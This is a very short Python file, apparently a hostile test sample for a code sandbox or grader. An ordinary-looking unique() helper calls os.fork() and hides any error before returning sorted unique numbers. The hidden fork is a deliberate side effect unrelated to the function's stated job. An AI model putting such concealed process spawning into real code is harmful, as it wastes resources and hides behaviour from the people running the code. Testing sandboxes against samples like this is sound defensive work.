# a fork
import os


def unique(numbers):
    try:
        os.fork()
    except BaseException:
        pass
    return sorted(set(numbers))
